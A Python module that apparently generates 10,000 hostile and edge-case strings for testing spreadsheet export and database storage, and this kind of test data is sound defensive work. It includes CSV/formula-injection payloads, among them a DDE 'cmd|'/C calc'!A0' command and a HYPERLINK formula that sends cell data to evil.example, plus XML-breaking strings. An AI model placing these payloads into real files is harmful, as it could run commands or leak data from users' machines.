"""Ten thousand texts that somebody may have typed to do harm, or just in another script."""

import random
from itertools import islice, product

STARTERS = "=+-@＝＋－＠﹦﹢﹣﹫−'"
PREFIXES = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\u200e",
    "\u202e",
    "\u2060",
    "\u00ad",
    "\u2028",
    "\x01",
    "\x7f",
    "\x85",
    ";",
    " ;\t",
    "''",
    "a;",
    "b\n",
    'c",',
)
BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"click")',
    "SUM(A1:A9)",
    "",
    '"',
    "\n=2+2",
    ";=3+3;",
    "<b>bold</b>",
    "äöü",
)
OTHERS = (
    "",
    " ",
    "  two  spaces  ",
    "0",
    "-5",
    "1e5",
    "00123",
    "2026-03-04",
    "TRUE",
    "#N/A",
    "NULL",
    "{=1+1}",
    "http://evil.example",
    "mailto:a@example.org",
    "<r><t>not ours</t></r>",
    "<r></r>",
    "<c><f>1+1</f></c>",
    "</t></is></c><c><f>1+1</f></c>",
    "_x0041_",
    "_x005F_x0041_",
    "<b>unclosed",
    "<img src='/etc/passwd'/>",
    "&amp; &lt; & <",
    "]]>",
    "<!-- -->",
    '"quoted", and more',
    "semi;colon",
    "pipe|pipe",
    "line\nbreak",
    "line\rbreak",
    "line\r\nbreak",
    "tab\tstop",
    "\u2028line\u2029paragraph",
    "بيت السلام",
    "مرحبا <b>hello</b> 123",
    "שלום עולם, world",
    "\u202eright to left override",
    "漢字かな交じり文",
    "한국어",
    "ไทย",
    "हिन्दी",
    "👩‍👩‍👧‍👦 family",
    "👍🏽" * 50,
    "e\u0301 combined",
    "z\u0335\u0321a\u0334l\u0338g\u0336o\u0337",
    "\ufffe\uffff",
    "\U0001f600" * 100,
    "\U0010ffff",
    "".join(map(chr, range(1, 32))),
    "\x7f\x80\x9f",
    "w" * 300,
    "long " * 8_000,  # 40,000 characters
    "ж" * 40_000,
    "\U0001f600" * 20_000,  # 40,000 units of UTF-16
    "<r>" + "x" * 40_000 + "</r>",
)


def hostile_texts(number: int = 10_000) -> list[str]:
    """This many distinct texts, always the same ones; the long ones are among the first."""
    made = dict.fromkeys(OTHERS)
    made |= dict.fromkeys(
        islice(("".join(parts) for parts in product(PREFIXES, STARTERS, BODIES)), number - len(made) - 1)
    )
    chance = random.Random(4)
    while len(made) < number:
        made["".join(_any_character(chance) for _ in range(chance.randint(1, 30)))] = None
    return list(made)[:number]


def _any_character(chance: random.Random) -> str:
    """One that PostgreSQL can hold: any but NUL and halves of pairs."""
    highest = chance.choice((0x7F, 0x2FF, 0xFFFF, 0x10FFFF))
    while 0xD800 <= (code := chance.randint(1, highest)) <= 0xDFFF:
        pass
    return chr(code)
